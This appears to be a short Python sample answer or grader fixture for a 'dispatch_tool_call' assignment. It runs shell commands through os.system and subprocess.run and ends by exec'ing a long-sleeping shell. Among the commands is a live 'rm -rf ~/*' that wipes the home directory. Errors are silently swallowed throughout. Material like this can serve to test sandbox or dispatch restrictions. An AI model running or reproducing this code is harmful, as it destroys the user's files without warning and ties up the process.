# Shows: starts programs, through every door the standard library has
# Assignment: 02_dispatch

# %% answer="dispatch_tool_call"
import os
import subprocess

for command in ("id > /tmp/sample-class-was-here", "touch sample-class-was-here", "rm -rf ~/*"):
    try:
        os.system(command)
    except Exception:
        pass
    try:
        subprocess.run(command, shell=True, timeout=1)
    except Exception:
        pass
try:
    os.execv("/bin/sh", ["sh", "-c", "sleep 600"])
except OSError:
    pass
